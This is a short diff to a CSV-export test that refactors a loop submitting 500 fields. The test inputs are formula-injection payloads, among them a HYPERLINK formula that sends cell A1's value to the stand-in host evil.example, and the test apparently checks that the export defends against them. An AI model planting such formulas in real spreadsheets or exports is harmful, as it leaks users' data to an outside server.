@@ -103,7 +103,7 @@ describe('a CSV export', () => {
     const data = openData()
     submit(data, { '=name': '"=1+1"', nested: '["x;=1"]', '\u202eother': '"\\t@x"' })
     const formula = '"=HYPERLINK(\\"https://evil.example/?\\"&A1)"'
-    for (let i = 0; i < 500; i++) submit(data, { [`field${i}`]: formula })
+    submit(data, Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`field${i}`, formula])))
     submit(data, { 'not a column': formula })
     const cells = (parse(textOf(data), { relax_column_count: false }) as string[][]).flat()
     expect(
